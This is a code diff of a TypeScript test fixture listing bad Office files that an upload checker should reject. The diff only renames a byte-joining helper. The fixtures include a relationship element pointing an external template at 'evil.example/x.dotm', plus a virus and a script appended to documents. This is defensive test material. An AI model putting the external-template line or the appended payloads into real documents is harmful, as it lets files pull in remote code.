@@ -1,8 +1,8 @@
-import { join, program, script, virus, refusedAs, type BadFile } from "./bad-file.ts";
+import { joinBytes, program, script, virus, refusedAs, type BadFile } from "./bad-file.ts";
 import { docx, docxWith, xlsx, xlsxWith } from "./good-files.ts";
 import { zip } from "./zip.ts";
 
-const encryptedOffice = join(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(2_000));
+const encryptedOffice = joinBytes(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(2_000));
 const relation = (type: string) =>
   `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x.dotm" TargetMode="External"/>`;
 
@@ -71,12 +71,12 @@ export const offices: readonly BadFile[] = [
   ]),
   ...refusedAs("file-cut", "docx", [
     ["a document that is cut in the middle", docx().subarray(0, 400)],
-    ["a document with a web page behind it", join(docx(), script)],
+    ["a document with a web page behind it", joinBytes(docx(), script)],
   ]),
   ["a document with words after its end", "x.docx", docx({ comment: script }), "file-mixed"],
   ...refusedAs("type-differs", "docx", [
     ["an archive that is called a document", zip([{ name: "x.txt", bytes: "x" }])],
     ["a sheet that is called a document", xlsx()],
   ]),
-  ["a virus in a sheet", "virus.xlsx", join(xlsx(), virus), "file-malware"],
+  ["a virus in a sheet", "virus.xlsx", joinBytes(xlsx(), virus), "file-malware"],
 ];
